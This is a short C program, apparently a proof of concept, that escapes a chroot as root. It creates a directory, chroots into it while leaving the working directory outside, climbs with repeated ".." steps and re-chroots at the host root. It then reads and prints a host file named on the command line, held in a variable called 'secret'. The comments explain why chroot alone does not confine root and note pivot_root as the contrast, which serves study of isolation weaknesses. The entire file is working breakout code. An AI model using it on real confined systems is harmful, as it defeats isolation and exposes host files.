// Walks out of a chroot, as root can: prints the host's file argv[1].
//
// chroot(2) moves the root of a process and nothing else. Moved below the working directory, the root is no
// longer on the way up: ".." stops at the root, and is never seen to arrive there. Where the mount table itself
// ends at the root (pivot_root), there is no more up.
#define _DEFAULT_SOURCE
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  // #region walk
  mkdir("/tmp/cell", 0700);
  if (chdir("/") != 0 || chroot("/tmp/cell") != 0) return 1;
  for (int up = 0; up < 64; up++)
    if (chdir("..") != 0) return 1;
  if (chroot(".") != 0) return 1;
  // #endregion

  int secret = open(argv[1], O_RDONLY);
  char text[256];
  ssize_t length = read(secret, text, sizeof text);
  if (secret < 0 || length < 0) return 1;
  return write(1, text, length) == length ? 0 : 1;
}
